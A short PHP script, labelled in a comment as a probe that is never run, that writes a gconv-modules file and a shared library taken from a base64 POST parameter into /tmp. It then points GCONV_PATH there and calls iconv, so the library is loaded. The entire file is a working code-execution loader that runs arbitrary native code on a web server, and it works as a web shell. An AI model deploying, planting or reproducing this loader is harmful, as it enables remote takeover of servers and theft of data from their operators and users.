<?php
// probe (never run): GCONV_PATH pointed at a folder with a module the script wrote, loaded by iconv
$d = '/tmp/gc';
@mkdir($d);
file_put_contents("$d/gconv-modules", "module  PAYLOAD//    INTERNAL    ../../../../../../../../tmp/gc/payload    2\nmodule  INTERNAL    PAYLOAD//    ../../../../../../../../tmp/gc/payload    2\n");
file_put_contents("$d/payload.so", base64_decode($_POST['so']));
putenv("GCONV_PATH=$d/");
iconv('payload', 'UTF-8', 'x');
